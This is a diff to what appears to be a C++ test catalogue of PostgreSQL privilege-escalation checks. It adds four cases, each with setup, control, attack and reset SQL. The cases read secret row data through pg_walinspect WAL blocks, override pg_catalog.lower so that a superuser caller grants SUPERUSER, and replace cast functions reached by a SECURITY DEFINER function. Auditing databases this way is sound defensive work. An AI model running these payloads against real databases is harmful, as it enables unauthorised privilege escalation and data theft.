@@ -36,7 +36,7 @@ struct Attack {
   const char* reset = nullptr;    // by the superuser, what the attack left
 };
 
-inline constexpr std::array<Attack, 85>
+inline constexpr std::array<Attack, 89>
     attacks{
         {
             {.id = "ESC-SUPER",
@@ -156,6 +156,22 @@ GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO {r}app;)x",
              .does = R"x(SELECT lo_from_bytea(0, 'x') AS written \gset
 SELECT lo_export(:written, '{data}/{db}.written');)x",
              .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
+            {.id = "ESC-FILEFUNC",
+             .since = 16,
+             .extension = "pg_walinspect",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA w; CREATE EXTENSION pg_walinspect SCHEMA w; GRANT USAGE ON SCHEMA w TO {r}app;
+CREATE TABLE public.secret (a text); GRANT EXECUTE ON FUNCTION w.pg_get_wal_block_info TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA w; CREATE EXTENSION pg_walinspect SCHEMA w; GRANT USAGE ON SCHEMA w TO {r}app;
+CREATE TABLE public.secret (a text); GRANT EXECUTE ON FUNCTION w.pg_get_wal_stats TO {r}app;)x",
+             .to = "every change of the rows of a database",
+             .does = R"x(SELECT pg_current_wal_lsn() AS before \gset
+\connect - {super}
+INSERT INTO public.secret VALUES ('treasure');
+\connect - {r}app
+SELECT DISTINCT 'gained' FROM w.pg_get_wal_block_info(:'before', pg_current_wal_lsn())
+ WHERE encode(block_data, 'escape') LIKE '%treasure%';)x"},
             {.id = "ESC-BYPASSRLS",
              .since = 12,
              .setup = "CREATE ROLE {r}app LOGIN BYPASSRLS; CREATE TABLE public.t AS SELECT 1 AS a; "
@@ -478,6 +494,22 @@ ALTER FUNCTION safe.run(text) OWNER TO {r}boss;
              .to = "{r}boss",
              .does = "SELECT safe.run('SELECT ''a''::text, ''b''::text, ''gained''::text WHERE "
                      "current_user = ''{r}boss''');"},
+            {.id = "ESC-SEARCHPATH",
+             .since = 12,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT CREATE ON SCHEMA pg_catalog TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC;)x",
+             .to = "superuser",
+             .does =
+                 R"x(CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
+BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
+)x",
+             .victim_is = "{super}",
+             .victim = "SELECT lower('X'::varchar);",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP FUNCTION IF EXISTS "
+                      "pg_catalog.lower(varchar);"},
             {.id = "ESC-SEARCHPATH",
              .since = 12,
              .setup = R"x(CREATE ROLE {r}app LOGIN;
@@ -833,6 +865,60 @@ CREATE TABLE s.u AS SELECT 1 AS a; CREATE STATISTICS s.st ON (s.of_row(a)), a FR
              .then = "SELECT 'gained' FROM s.loot WHERE a = '{r}boss' LIMIT 1;",
              .reset =
                  R"x(CREATE OR REPLACE FUNCTION s.of_row(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END'; TRUNCATE s.loot;)x"},
+            {.id = "ESC-REPLACEFUNC",
+             .since = 12,
+             .certain = false,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
+CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
+CREATE FUNCTION s.t(text) RETURNS s.e LANGUAGE plpgsql AS $$ BEGIN RETURN 'a'; END $$;
+ALTER FUNCTION s.t(text) OWNER TO {r}app; CREATE CAST (text AS s.e) WITH FUNCTION s.t(text);
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::s.e IS NULL';
+ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
+CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
+CREATE FUNCTION s.t(text) RETURNS s.e LANGUAGE plpgsql AS $$ BEGIN RETURN 'a'; END $$;
+ALTER FUNCTION s.t(text) OWNER TO {r}boss; CREATE CAST (text AS s.e) WITH FUNCTION s.t(text);
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::s.e IS NULL';
+ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
+             .to = "{r}boss",
+             .does = R"x(BEGIN;
+CREATE OR REPLACE FUNCTION s.t(text) RETURNS s.e LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 'a'; END $$;
+SELECT safe.vip('a'); SELECT 'gained' FROM s.loot WHERE a = '{r}boss';
+ROLLBACK;)x"},
+            {.id = "ESC-REPLACEFUNC",
+             .since = 12,
+             .certain = false,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
+CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
+CREATE FUNCTION s.t(text) RETURNS point LANGUAGE plpgsql AS $$ BEGIN RETURN '(1,2)'; END $$;
+ALTER FUNCTION s.t(text) OWNER TO {r}app; CREATE CAST (text AS point) WITH FUNCTION s.t(text);
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::point IS NULL';
+ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
+CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
+CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
+CREATE FUNCTION s.t(text) RETURNS point LANGUAGE plpgsql AS $$ BEGIN RETURN '(1,2)'; END $$;
+ALTER FUNCTION s.t(text) OWNER TO {r}boss; CREATE CAST (text AS point) WITH FUNCTION s.t(text);
+CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
+CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::point IS NULL';
+ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
+             .to = "{r}boss",
+             .does = R"x(BEGIN;
+CREATE OR REPLACE FUNCTION s.t(text) RETURNS point LANGUAGE plpgsql AS $$
+BEGIN INSERT INTO s.loot VALUES (current_user); RETURN '(1,2)'; END $$;
+SELECT safe.vip('(1,2)'); SELECT 'gained' FROM s.loot WHERE a = '{r}boss';
+ROLLBACK;)x"},
             {.id = "ESC-VIEWCODE",
              .since = 12,
              .setup = R"x(CREATE ROLE {r}app LOGIN;
